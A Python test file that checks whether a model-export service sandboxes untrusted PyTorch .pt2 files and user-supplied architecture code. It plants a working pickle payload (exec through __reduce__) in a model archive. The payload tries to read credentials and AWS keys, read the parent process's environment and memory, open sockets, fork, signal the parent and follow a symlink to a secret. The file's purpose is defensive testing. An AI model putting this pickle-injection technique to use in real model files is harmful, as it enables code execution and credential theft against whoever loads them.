"""A `.pt2` and source by uri are code: what they may not do is tried for real, with a payload that does it."""

import json
import platform
import zipfile
from dataclasses import replace
from hashlib import sha256
from io import BytesIO
from pathlib import Path
from textwrap import dedent
from typing import Any

import onnxruntime
import pytest

from strop_job.errors import InvalidInput, Unsupported
from strop_job.models.exporter import ExportOrder, export_in_child, order_for

from .conftest import CNN, Export, model, source

PAYLOAD = """
import ctypes, errno, json, os, socket, subprocess
loot = {{}}
def attempt(name, deed):
    try:
        loot[name] = repr(deed())
    except BaseException as error:
        loot[name] = f"refused: {{type(error).__name__}}"
attempt("credentials", lambda: open({credentials!r}).read())
attempt("environment", lambda: os.environ["AWS_SECRET_ACCESS_KEY"])
attempt("parent's environment", lambda: len(open(f"/proc/{{os.getppid()}}/environ", "rb").read()))
attempt("parent's memory", lambda: open(f"/proc/{{os.getppid()}}/mem", "rb").fileno())
attempt("socket", lambda: socket.socket())
attempt("connection", lambda: socket.create_connection(("127.0.0.1", {port}), 1))
attempt("writing outside", lambda: open({outside!r}, "w").write("x"))
attempt("process", lambda: subprocess.run(["/bin/true"]).returncode)
attempt("fork", lambda: os.fork() or os._exit(0))
attempt("signal", lambda: os.kill(os.getppid(), 0))
libc, parent, calls = ctypes.CDLL(None, use_errno=True), os.getppid(), {calls!r}
def call(name, *arguments):
    if libc.syscall(calls[name], *arguments) < 0 and ctypes.get_errno() == errno.EPERM:
        raise PermissionError
    return "done"
word, vector = ctypes.create_string_buffer(8), lambda: (ctypes.c_size_t * 2)(ctypes.addressof(word), 8)
attempt("tkill", lambda: call("tkill", parent, 0))
attempt("tgkill", lambda: call("tgkill", parent, parent, 0))
attempt("queued signal", lambda: call("rt_sigqueueinfo", parent, 0, ctypes.create_string_buffer(128)))
attempt("queued thread signal", lambda: call("rt_tgsigqueueinfo", parent, parent, 0, ctypes.create_string_buffer(128)))
attempt("process descriptor", lambda: call("pidfd_open", parent, 0))
attempt("signal by descriptor", lambda: call("pidfd_send_signal", -1, 0, None, 0))
attempt("reading memory", lambda: call("process_vm_readv", parent, vector(), 1, vector(), 1, 0))
attempt("writing memory", lambda: call("process_vm_writev", parent, vector(), 1, vector(), 1, 0))
attempt("own folder", lambda: open("own.txt", "w").write("x"))
open("loot.json", "w").write(json.dumps(loot))
"""

NUMBERS = {
    "x86_64": {
        "tkill": 200, "tgkill": 234, "rt_sigqueueinfo": 129, "rt_tgsigqueueinfo": 297, "pidfd_open": 434,
        "pidfd_send_signal": 424, "process_vm_readv": 310, "process_vm_writev": 311,
    },
    "aarch64": {
        "tkill": 130, "tgkill": 131, "rt_sigqueueinfo": 138, "rt_tgsigqueueinfo": 240, "pidfd_open": 434,
        "pidfd_send_signal": 424, "process_vm_readv": 270, "process_vm_writev": 271,
    },
}[platform.machine()]  # fmt: skip
"""The kernel's own numbers, from its tables: unistd_64.h and the generic list."""
GUARDED = ("reading memory", "writing memory", "queued signal", "queued thread signal")
"""What the kernel itself may refuse, by its own settings or for a malformed argument."""


class Planted:
    """Runs the payload when it is unpickled."""

    def __init__(self, payload: str) -> None:
        self.payload = payload

    def __reduce__(self) -> tuple[Any, ...]:
        return exec, (self.payload, {})


@pytest.fixture
def payload(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    """What the planted code tries, against credentials that are there to be had."""
    credentials = tmp_path / "credentials" / "secretKey"
    credentials.parent.mkdir()
    credentials.write_text("s3cr3t")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "s3cr3t")
    return PAYLOAD.format(credentials=str(credentials), outside=str(tmp_path / "outside.txt"), port=9, calls=NUMBERS)


def planted(program: Path, payload: str, folder: Path) -> Path:
    """A copy of the `.pt2` whose sample inputs run the payload when they are loaded."""
    import torch

    folder.mkdir()
    evil = BytesIO()
    torch.save(Planted(payload), evil)
    path = folder / "model.pt2"
    with zipfile.ZipFile(program) as original, zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as copy:
        for name in original.namelist():
            copy.writestr(name, evil.getvalue() if "sample_inputs" in name else original.read(name))
    return path


def order(tmp_path: Path, path: Path, **changes: Any) -> ExportOrder:
    """An order to export this `.pt2`."""
    folder = tmp_path / "work"
    folder.mkdir()
    spec = model(CNN, format="TorchExport", architecture=None)
    return replace(order_for(spec, folder, source(path), seed=0), **changes)


def loot_of(given: ExportOrder) -> dict[str, str]:
    """What the payload got."""
    with pytest.raises(InvalidInput, match="torch export"):
        export_in_child(given)
    loot: dict[str, str] = json.loads((Path(given.folder) / "loot.json").read_text())
    return loot


def test_planted_code_gets_no_credentials_no_network_and_no_process(
    tmp_path: Path, cnn_program: Path, payload: str
) -> None:
    """A model from a stranger would carry the store's keys away."""
    path = planted(cnn_program, payload, tmp_path / "evil")
    loot = loot_of(order(tmp_path, path, isolated=True))
    assert loot.pop("own folder") == "1"
    assert {name for name, got in loot.items() if not got.startswith("refused")} == set()
    assert not (tmp_path / "outside.txt").exists()


def test_the_same_code_gets_everything_when_it_is_not_locked_in(
    tmp_path: Path, cnn_program: Path, payload: str
) -> None:
    """The payload would be a dud, and the test above would prove nothing."""
    path = planted(cnn_program, payload, tmp_path / "evil")
    loot = loot_of(order(tmp_path, path))
    refused = {name for name, got in loot.items() if got.startswith("refused")}
    assert refused <= {"connection", "environment", "parent's memory", *GUARDED}
    assert "s3cr3t" in loot["credentials"]


def test_without_the_policys_word_a_pt2_is_not_even_opened(
    tmp_path: Path, cnn_program: Path, payload: str, export: Export
) -> None:
    """Code would run although nobody allowed it."""
    path = planted(cnn_program, payload, tmp_path / "evil")
    spec = model(CNN, format="TorchExport", architecture=None, digest=digest(path))
    with pytest.raises(Unsupported, match=r"spec\.model\.format.*policy does not allow"):
        export(spec, source(path))
    assert not list(tmp_path.rglob("loot.json"))


def test_an_allowed_pt2_without_a_digest_is_refused(cnn_program: Path, export: Export) -> None:
    """Whoever can write to the bucket could swap the code."""
    spec = model(CNN, format="TorchExport", architecture=None)
    with pytest.raises(Unsupported, match=r"spec\.model\.digest"):
        export(spec, source(cnn_program), allow_code=True)


def test_an_allowed_pt2_is_exported_behind_bars(cnn_program: Path, export: Export) -> None:
    """The lock would keep honest models out too."""
    spec = model(CNN, format="TorchExport", architecture=None, digest=digest(cnn_program))
    graph = export(spec, source(cnn_program), allow_code=True)
    assert graph.facts["parity"]["worst"] < 1e-4  # type: ignore[index,call-overload,operator]
    session = onnxruntime.InferenceSession(graph.entry, providers=["CPUExecutionProvider"])
    assert session.get_inputs()[0].shape == ["batch", 1, 8, 8]


SOURCE = dedent("""
    import os
    import socket
    from strop_job.zoo.cnn import classifier
    def build(width):
        assert "AWS_SECRET_ACCESS_KEY" not in os.environ
        try:
            socket.socket()
        except PermissionError:
            return classifier(width=width)
        raise SystemExit("the network is there")
""")


def test_source_by_uri_builds_the_module_behind_bars(
    tmp_path: Path, cnn_weights: Path, export: Export, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Users could not bring an architecture the image lacks, or it would run with the worker's keys."""
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "s3cr3t")
    code = tmp_path / "code" / "my_architecture.py"
    code.parent.mkdir()
    code.write_text(SOURCE)
    architecture = {
        "callable": "my_architecture:build",
        "arguments": {"width": 4},
        "source": {"uri": "s3://models/my_architecture.py", "digest": digest(code)},
    }
    spec = model(CNN, architecture=architecture)
    with pytest.raises(Unsupported, match=r"spec\.model\.architecture\.source"):
        export(spec, source(cnn_weights), code=source(code))
    (tmp_path / "stage").rmdir()
    graph = export(spec, source(cnn_weights), code=source(code), allow_code=True)
    assert graph.facts["parity"]["worst"] < 1e-4  # type: ignore[index,call-overload,operator]


def test_a_link_left_by_the_code_is_not_followed(tmp_path: Path, cnn_program: Path) -> None:
    """Locked-in code would have us read, and publish, the file it could not open."""
    secret = tmp_path / "secret"
    secret.write_text("s3cr3t")
    payload = f"import os; os.symlink({str(secret)!r}, 'result.json'); os._exit(0)"
    path = planted(cnn_program, payload, tmp_path / "evil")
    with pytest.raises(InvalidInput, match="not a plain file"):
        export_in_child(order(tmp_path, path, isolated=True))


def digest(path: Path) -> str:
    """As a spec pins it."""
    return "sha256:" + sha256(path.read_bytes()).hexdigest()
